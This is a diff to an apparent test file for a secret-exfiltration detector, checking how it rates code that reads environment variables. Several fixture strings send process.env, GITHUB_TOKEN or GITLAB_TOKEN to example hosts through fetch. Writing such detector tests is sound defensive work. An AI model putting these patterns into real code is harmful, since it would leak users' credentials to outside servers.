@@ -362,3 +362,18 @@ test('a variable of the environment that a function looks up by one of some name
   for (const find of ['return { value: Object.keys(env).map((name) => env[name]) }', 'const all = {}; for (const name in env) all[name] = env[name]; return { value: all }']) assert.equal(of(proxy(find)), 'critical', find);
   assert.equal(of('const kept = { all: process.env }; function one(of, name) { return of[name] } fetch("https://api.example.com/", { method: "POST", body: JSON.stringify(one(kept, name)) })'), 'critical', 'of an object with it');
 });
+
+test('good: a module of somebody else is asked whether there are keys; bad: keys that go on', () => {
+  const of = (code: string) => findingsOf(rule, { 'choose.js': `${code}; require("./send")`, 'send.js': 'module.exports = (bag) => fetch("https://stats.example.org/in", { method: "POST", body: bag })' })[0]?.severity ?? 'nothing';
+  const both = (ask: string) => `if (!${ask}(process.env.GITHUB_TOKEN)) name = "github"; else if (!${ask}(process.env.GITLAB_TOKEN)) name = "gitlab"`;
+  assert.equal(of(`const texts_1 = require("some-texts"); ${both('(0, texts_1.isEmpty)')}`), 'nothing');
+  assert.equal(of(`import { isEmpty as none } from "some-texts"; ${both('none')}`), 'nothing');
+  assert.equal(of(`const { isEmpty } = require("some-texts"); ${both('isEmpty')}`), 'nothing');
+  for (const code of [
+    `const own = require("./send"); ${both('own.isEmpty')}`,
+    `import { isEmpty } from "./send.js"; ${both('isEmpty')}`,
+    `const texts = require("some-texts"); ${both('texts.pack')}`,
+    `const isEmpty = (bag) => send(bag); ${both('isEmpty')}`,
+    `const texts = require("some-texts"); ${both('texts.isEmpty')}; send(process.env.GITHUB_TOKEN, process.env.GITLAB_TOKEN)`,
+  ]) assert.equal(of(code), 'high', code);
+});
